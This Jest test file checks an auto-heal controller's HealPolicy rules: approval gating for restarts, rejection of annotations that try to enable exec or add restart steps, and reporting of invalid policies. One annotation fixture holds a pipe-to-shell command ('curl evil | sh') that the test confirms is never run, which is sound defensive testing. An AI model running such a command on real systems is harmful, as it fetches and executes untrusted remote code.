/**
 * HealPolicy against the simulator (which serves aiops.io/v1alpha1 healpolicies): a namespace's
 * policy gates its deployments' restart behind an approval and disables exec; an annotation on a
 * deployment can neither enable exec nor undo the policy; a bad policy is reported and ignored.
 */
import { afterEach, describe, expect, it } from '@jest/globals';
import { defaultWorkload } from '@aiops/simulator';
import { POLICY_GROUP, POLICY_PLURAL, POLICY_VERSION } from '../../src/policy/healPolicy.js';
import { startHumans, type HumansHarness } from './support.js';

const NS = 'shop';
const WEB = { ...defaultWorkload(NS, 'web'), autoheal: true, replicas: 2, baseRps: 20 };

let h: HumansHarness | undefined;
afterEach(async () => {
  await h?.stop();
  h = undefined;
});

const createPolicy = (name: string, spec: unknown) =>
  h!.kube.custom!.createNamespacedCustomObject({
    group: POLICY_GROUP,
    version: POLICY_VERSION,
    plural: POLICY_PLURAL,
    namespace: NS,
    body: {
      apiVersion: `${POLICY_GROUP}/${POLICY_VERSION}`,
      kind: 'HealPolicy',
      metadata: { name },
      spec,
    },
  });

describe('HealPolicy', () => {
  it("a namespace's policy gates restart behind an approval", async () => {
    h = await startHumans({ workloads: [WEB] });
    await createPolicy('shop-policy', {
      selector: { matchLabels: { app: 'web' } },
      gates: { restart_scale: 'approve' },
    });
    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'crash_loop' });
    await h.cyclesUntil(
      async () => (await h!.reasons(NS, 'web')).includes('AutoHealApprovalRequested'),
      6,
      { namespace: NS, name: 'web' },
    );
    await h.cycle();
    expect(await h.reasons(NS, 'web')).toEqual(['AutoHealApprovalRequested']);
    const [a] = (await h.call('GET', '/api/approvals')).json as Array<{ action: string }>;
    expect(a).toMatchObject({ action: 'restart_scale' });
  });

  it('an annotation cannot enable exec the policy disables', async () => {
    h = await startHumans({
      workloads: [WEB],
      execFake: true,
      // The config would allow exec; the namespace's policy does not.
      config: { cacheClear: { method: 'exec' } },
    });
    await createPolicy('no-exec', {
      ladder: ['cache_clear_restart', 'page'],
      cacheClear: { method: 'proxy', path: '/cache/clear' },
    });
    await h.annotate(NS, 'web', {
      'aiops.io/cache-clear-method': 'exec',
      'aiops.io/cache-clear-command': '["sh","-c","curl evil | sh"]',
      'aiops.io/ladder': 'restart_scale,cache_clear_restart,page',
    });
    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'bad_release' });
    await h.cyclesUntil(
      async () => (await h!.reasons(NS, 'web')).includes('AutoHealCacheClear'),
      8,
      { namespace: NS, name: 'web' },
    );
    expect(h.exec!.calls).toEqual([]);
    const events = await h.events(NS, 'web');
    expect(events.map((e) => e.reason ?? '').filter((r) => /Restart|CacheClear/.test(r))).toEqual([
      'AutoHealCacheClear',
    ]);
    expect(
      events.filter((e) => e.reason === 'AutoHealBadAnnotation').map((e) => e.message),
    ).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/cache-clear-method: "exec" may not enable exec/),
        expect.stringMatching(/aiops\.io\/ladder: .* may not add restart_scale/),
      ]),
    );
  });

  it('a bad policy is reported once and ignored', async () => {
    h = await startHumans({ workloads: [WEB] });
    await createPolicy('bad', { thresholds: { high: 3 } });
    const r1 = await h.cycle();
    const r2 = await h.cycle();
    expect(r1.errors).toEqual([
      expect.stringMatching(/^HealPolicy shop\/bad: spec\.thresholds\.high: .*; ignored$/),
    ]);
    expect(r2.errors).toEqual([]);
  });
});
